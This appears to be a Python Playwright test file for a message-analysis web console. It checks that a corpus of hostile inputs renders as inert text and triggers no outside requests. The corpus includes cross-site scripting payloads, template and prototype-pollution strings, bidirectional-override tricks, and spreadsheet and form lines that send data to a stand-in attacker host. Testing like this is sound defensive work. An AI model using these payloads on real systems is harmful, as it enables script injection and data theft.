"""What criminals write is shown, and does nothing."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, expect

from tests.browser.support import Console, opened
from tests.integration.support import Api, Stack

CORPUS = {
    "script": "<script>alert(1)</script> your parcel is held",
    "image": '<img src=x onerror="alert(1)"> <img src=//evil.example/pixel.png>',
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "frame": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data="javascript:alert(1)">',
    "style": "<style>*{display:none!important}</style><link rel=stylesheet href=//evil.example/x.css>",
    "attribute": '" onmouseover="alert(1)" autofocus onfocus=\'alert(1)\' x="',
    "template": "${alert(1)} {{constructor.constructor('alert(1)')()}} <!--lit-part--> ?lit$123$ <?php echo 1 ?>",
    "link": "javascript:alert(1) data:text/html,<script>alert(1)</script>",
    "meta": '<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example/>',
    "form": "</textarea></form></body></html><form action=//evil.example><input name=key></form>",
    "right to left": "Invoice \u202egpj.exe\u202c pay \u2067now\u2066 \u200fhere",
    "hidden": "pay\u200bpal \u0000 \u0007 \ufeff \u00ad s\u2060end \U000e0041\U000e0042",
    "marks": "Z" + "\u0310\u0321\u0335" * 600 + "algo verify your account",
    "long word": "a" * 9_990,
    "long link": "https://" + "sub." * 600 + "example.top/verify",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3fd\u200d\u2640\ufe0f" * 800,
    "lines": "verify\n" * 1_200,
    "prototype": '{"__proto__": {"x": 1}} constructor toString __proto__',
    "spreadsheet": '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "arabic": "حسابك معلق. https://bank-verify.top <b>الآن</b> 123",
}
_METADATA = {"<img src=x onerror=alert(1)>": '"><script>alert(1)</script>', "dir": "\u202eabc"}


@pytest.fixture(scope="module")
def gallery(browser: Browser, stack: Stack, client: Api) -> Iterator[tuple[Console, dict[str, str]]]:
    """Return an open list with all of it, and the ids."""
    with opened(browser, stack) as console:
        console.arrive(stack.keys["analyst"])
        console.go("Messages")
        messages = [{"message_content": text, "metadata": _METADATA} for text in CORPUS.values()]
        results = client.ok("POST", "/analyze/batch", json={"messages": messages})["results"]
        yield console, {name: item["result"]["message_id"] for name, item in zip(CORPUS, results, strict=True)}


@pytest.mark.parametrize("name", CORPUS)
def test_hostile_text_is_inert(gallery: tuple[Console, dict[str, str]], name: str) -> None:
    live, ids = gallery
    message_id, text = ids[name], CORPUS[name]
    outside = []
    host = live.url.split("/")[2]
    live.page.on("request", lambda request: outside.append(request.url) if host not in request.url else None)

    row = live.row(message_id)
    expect(row).to_be_visible()
    assert row.bounding_box()["height"] < 90
    detail = live.show(message_id)
    expect(detail.locator("code", has_text=message_id)).to_be_visible()
    message = detail.locator(".message-text")
    shown = message.evaluate(
        "(place) => { const copy = place.cloneNode(true); copy.querySelectorAll('.ghost').forEach((g) => g.remove());"
        " return copy.textContent; }"
    )
    assert shown == _visible(text)
    tags = detail.evaluate("(place) => [...new Set([...place.querySelectorAll('*')].map((e) => e.localName))]")
    assert not {"script", "img", "iframe", "style", "object", "link", "meta", "base", "form", "animate"} & set(tags)
    detail.locator("summary", has_text="JSON").click()
    expect(detail.locator("pre")).to_contain_text(message_id)
    for mark in detail.locator("mark").all()[:3]:
        mark.hover()
    assert live.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert outside == []
    assert live.violations() == []
    assert live.errors == []
    assert live.evaluate("document.title") == "Messages · Hookline"


def _visible(text: str) -> str:
    """Return a text without the characters that the console shows by name."""
    named = [range(0x9), range(0xB, 0x20), range(0x7F, 0xA0), range(0x202A, 0x202F), range(0x2060, 0x2065)]
    named += [range(0x2066, 0x206A), range(0xE0000, 0xE0080)]
    single = {0xAD, 0x61C, 0x200B, 0x200E, 0x200F, 0xFEFF}
    return "".join(c for c in text if ord(c) not in single and not any(ord(c) in many for many in named))


def test_hidden_characters_are_named(live: Console, client: Api) -> None:
    live.go("Messages")
    sent = client.ok("POST", "/analyze", json={"message_content": CORPUS["right to left"]})
    expect(live.row(sent["message_id"])).to_be_visible()
    named = live.show(sent["message_id"]).locator(".message-text .ghost").all_inner_texts()
    assert named == ["RLO", "PDF", "RLI", "LRI", "RLM"]


def test_an_address_cannot_carry_anything_in(live: Console) -> None:
    live.open(
        "#/messages?text=%3Cimg%20src=x%20onerror=alert(1)%3E&sender=%22%3E%3Cscript%3E&open=../../senders&category=%3Cb%3E&level=%00"
    )
    expect(live.page.get_by_role("heading", name="Messages", level=1)).to_be_visible()
    expect(live.page.locator("#search")).to_have_value("<img src=x onerror=alert(1)>")
    live.open("#/%3Cscript%3Ealert(1)%3C/script%3E?range=__proto__")
    expect(live.page.get_by_role("heading", name="Overview", level=1)).to_be_visible()


def test_a_hostile_reason_in_a_list_is_inert(live: Console, analyst: Api, phone_number: str) -> None:
    reason = "<img src=x onerror=alert(1)>\u202eabc"
    analyst.ok("PUT", f"/senders/{phone_number}", json={"list": "block", "reason": reason})
    live.go("Senders")
    expect(live.page.get_by_role("row").filter(has_text=phone_number)).to_contain_text(
        "<img src=x onerror=alert(1)>abc"
    )
